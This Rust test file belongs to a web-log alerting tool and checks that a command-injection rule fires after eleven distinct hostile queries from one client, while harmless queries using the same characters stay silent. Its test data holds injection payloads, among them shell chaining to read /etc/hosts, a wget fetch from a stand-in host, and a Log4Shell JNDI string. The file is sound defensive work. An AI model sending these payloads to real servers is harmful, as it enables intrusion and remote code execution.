//! Tests of commands and code in queries, and of harmless queries with the same characters.

use super::{BEGIN, S, built_in, opened, response, run};

/// Whether this many different queries of a client raise an alert; `N` is replaced by a number.
fn is_told(number: u64, path: &str) -> bool {
    let queries = (0..number).map(|i| {
        let path = path.replace('N', &i.to_string());
        response("198.51.100.7", 200, &path, BEGIN + i * S)
    });
    let (alerts, _) = run(&mut built_in(), queries);
    opened(&alerts).contains(&"http-command-injection")
}

#[test]
fn the_eleventh_query_with_a_command_is_told_and_the_tenth_is_not() {
    for path in [
        "/item?n=N&id=a%3Benv%3B",
        "/item?n=N&id=%26set%26",
        "/item?n=N&id=1%0Aid%0A",
        "/item?n=N&id=1;cat+/etc/hosts",
        "/item?n=N&id=1|ping+-c+3+127.0.0.1",
        "/item?n=N&id=a%60sleep+60%60",
        "/item?n=N&id=%24(whoami)",
        "/item?n=N&id=1;wget+http://203.0.113.9/x",
        "/item?n=N&id=a%3Bexit%28md5%28%27x%27%29%29%3B%23",
        "/item?n=N&id=phpinfo()",
        "/item?n=N&id=data%3A%3Bbase64%2CPD9waHA",
        "/item?n=N&page=php://filter/convert",
        "/item?n=N&q=%7B%7B7*7%7D%7D",
        "/item?n=N&q=${jndi:ldap://203.0.113.9/x}",
    ] {
        assert!(!is_told(10, path), "{path}");
        assert!(is_told(11, path), "{path}");
    }
    // One query repeated counts once.
    assert!(!is_told(300, "/item?id=a%3Benv%3B"));
}

#[test]
fn queries_with_such_characters_are_silent() {
    for path in [
        "/api?prop=info|revisions&ids=N",
        "/wiki?titles=Cat|Dog|N&meta=userinfo|siteinfo",
        "/list?fields=id|type|set|N",
        "/search?q=how+to+use+eval()+in+php+N",
        "/x;jsessionid=AN;id=4?a=b",
        "/search?q=R%26D+N",
        "/search?q=cats+%26+dogs+N",
        "/search?q=AT%26T+ping+N",
        "/list?a=N&id=5&type=3&set=2&dir=asc",
        "/chart?chl=cat|dir|N",
        "/search?q=100%24+(sale)N",
        "/odata?$filter=id+eq+N",
        "/pixel?n=N&u=data:image/png;base64,iVBOR",
        "/list?tags=a;b;c;N",
    ] {
        assert!(!is_told(300, path), "{path}");
    }
}
